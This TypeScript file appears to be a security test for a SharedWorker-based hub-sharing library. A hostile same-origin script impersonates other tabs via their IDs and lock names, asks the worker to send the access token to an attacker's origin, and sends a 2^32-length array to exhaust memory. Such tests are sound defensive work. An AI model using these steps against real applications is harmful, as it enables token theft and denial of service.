/**
 * A script of the same origin that knows hubshare: it opens ports of its own, joins by the rules, reads what every page may read (the
 * report, the names of the locks), and then tries to get at the token and at the other tabs.
 */
import { proxy, transfer, wrap } from 'comlink';
import type { FetchRequest } from '../../src/contract/fetch.js';
import type { Hello, HubSettings, HubWish } from '../../src/contract/rpc.js';
import type { HostileReport } from './tab-api.js';

type Answer = Promise<Readonly<Record<string, unknown>>>;
type Worker = Readonly<Record<string, (...args: readonly unknown[]) => Answer>>;

// It has no code of hubshare, as such a script has none; the types see to it that what it says is what the worker would take.
const SETTINGS: HubSettings = {
  protocol: 'json',
  transport: null,
  skipNegotiation: false,
  withCredentials: true,
  headers: {},
  requestTimeoutMs: null,
  serverTimeoutMs: null,
  keepAliveIntervalMs: null,
  statefulReconnectBufferSize: null,
  retryDelaysMs: null,
  logLevel: null,
};

/** @param elsewhere - A hub of another origin, which is the attacker's. */
export async function attack(openWorker: () => SharedWorker, hub: string, elsewhere: string): Promise<HostileReport> {
  const received: string[] = [];
  const tried: Record<string, string> = {};

  /** What the worker asks a page for; this one has bad answers. */
  const tab = {
    fetchAccessToken: () => ({ ok: true, value: { not: 'a token' } }),
    takeQuestion: () => ({ ok: true, value: true }),
    nextRetryDelay: () => ({ ok: true, value: -1 }),
  };

  async function join(more: Partial<Hello>): Promise<{ worker: Worker; code: string }> {
    const control = new MessageChannel();
    const events = new MessageChannel();
    for (const port of [control.port1, events.port1]) {
      port.addEventListener('message', ({ data }) => received.push(JSON.stringify(data)));
      port.start();
    }
    openWorker().port.postMessage({ hubshare: 1, control: control.port2 }, [control.port2]);
    const worker = wrap<Worker>(control.port1) as unknown as Worker;
    const id = crypto.randomUUID();
    const lock = `hubshare:tab:${id}`;
    await new Promise<void>((held) => {
      void navigator.locks.request(lock, () => new Promise(() => held()));
    });
    const hello: Hello = {
      contractVersion: 1,
      tabId: id,
      tabKey: id,
      tabLock: lock,
      visibility: 'visible',
      events: events.port2,
      ...more,
    };
    return { worker, code: codeOf(await call(worker, 'join', transfer(hello, [events.port2]), proxy(tab))) };
  }

  const call = (worker: Worker, method: string, ...args: readonly unknown[]): Answer => {
    const own = worker[method];
    if (own === undefined) throw new Error(`no proxy for ${method}`);
    return own(...args);
  };
  const wish = (url: string, attachment: number): HubWish => ({
    hub: url,
    settings: SETTINGS,
    methods: ['sequence'],
    opens: true,
    hasTokenFactory: true,
    hasRetryPolicy: true,
    wantsLog: true,
    topics: {},
    settledClaims: [],
    identity: null,
    attachment,
    opening: attachment,
  });

  const own = await join({});
  tried['join by the rules'] = own.code;
  const { worker } = own;
  tried['use a hub without having asked for it'] = codeOf(await call(worker, 'reconnectNow', hub));
  tried['have a hub of another origin opened'] = codeOf(await call(worker, 'attach', wish(elsewhere, 1)));
  tried['have the hub opened'] = codeOf(await call(worker, 'attach', wish(hub, 2)));
  tried['become primary'] = codeOf(await call(worker, 'becomePrimary', hub));
  tried['have the token refreshed'] = codeOf(await call(worker, 'refreshTokenNow', hub));
  const report = await call(worker, 'nextReport', -1, 0);
  const { tabs } = report['value'] as { readonly tabs: readonly { readonly id: string }[] };
  const { held = [] } = await navigator.locks.query();
  const locks = held.flatMap(({ name }) => (name === undefined ? [] : [name]));

  for (const { id } of tabs) tried[`join as ${id}`] = (await join({ tabId: id })).code;
  for (const lock of locks.filter((name) => name.startsWith('hubshare:')))
    tried[`join with the lock ${lock}`] = (await join({ tabLock: lock })).code;

  const request = (url: string): FetchRequest => ({
    hub,
    requestId: crypto.randomUUID(),
    url,
    method: 'GET',
    headers: [],
    body: null,
    cache: 'default',
    credentials: 'same-origin',
    integrity: '',
    keepalive: false,
    mode: 'cors',
    referrerPolicy: '',
  });
  tried['have the token sent to another origin'] = codeOf(await call(worker, 'authorizedFetch', request(elsewhere)));
  const refresh = new URL('/auth/refresh', location.href).href;
  tried['ask the token endpoint through the worker'] = codeOf(await call(worker, 'authorizedFetch', request(refresh)));
  const negotiate = `${hub}/negotiate?negotiateVersion=1`;
  tried['ask the hub for a connection through the worker'] = codeOf(
    await call(worker, 'authorizedFetch', request(negotiate)),
  );
  const bomb: unknown[] = [];
  bomb.length = 2 ** 32 - 1;
  const heavy = { hub, callId: 'bomb', method: 'Echo', args: [bomb], uploads: 0 };
  tried['send a list of billions'] = codeOf(await call(worker, 'invoke', heavy));
  // Never answered: with the tab, the port is closed.
  void call(worker, 'leave');
  return { tried, received, tabs: tabs.map(({ id }) => id) };
}

/** `ok`, or the code of the error. */
function codeOf(answer: Readonly<Record<string, unknown>>): string {
  const { reply = answer } = answer as { readonly reply?: unknown };
  const { ok, error } = reply as { readonly ok?: unknown; readonly error?: { readonly code?: string } };
  return ok === true ? 'ok' : (error?.code ?? 'no code');
}
